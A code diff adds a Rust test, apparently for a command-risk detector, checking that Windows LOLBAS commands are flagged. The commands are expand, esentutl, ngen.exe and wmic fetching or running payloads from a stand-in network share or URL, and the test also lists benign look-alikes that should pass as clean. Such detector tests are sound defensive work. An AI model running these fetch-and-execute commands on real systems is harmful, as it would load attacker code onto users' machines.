@@ -235,3 +235,34 @@ fn iwin_held_out_half() {
         "clean",
     );
 }
+
+/// LOLBAS part 0: Windows programs handed a network share copy, fetch or
+/// run what is there (`expand \\host\share\a.bat`, `esentutl /y
+/// \\host\x`), and an unknown `.exe` handed a URL (`ngen.exe http://...`);
+/// in double quotes bash halves the share's backslashes, so the line's own
+/// words are read (`/format:"\\host\x.xsl"`). Text that only mentions
+/// backslashes is no location.
+#[test]
+fn network_locations_handed_to_windows_programs() {
+    flagged_each(
+        &[
+            "expand \\\\203.0.113.7\\share\\payload.bat C:\\Temp\\payload.bat",
+            "esentutl.exe /y \\\\203.0.113.7\\share\\a.exe /d \\\\203.0.113.7\\share\\b.exe /o",
+            "ngen.exe http://203.0.113.7/payload",
+            "wmic.exe process get brief /format:\"\\\\203.0.113.7\\share\\payload.xsl\"",
+            "cp '\\\\host\\share\\a.exe' .",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    each(
+        &[
+            "sed 's=/=\\\\/=g'",
+            "hledger print cur:\\\\$ food",
+            "mytool http://localhost:3000",
+            "echo '\\\\server\\share'",
+            "wsl.exe -e sh -c 'curl -s http://localhost:8080/healthz'",
+        ],
+        "clean",
+    );
+}
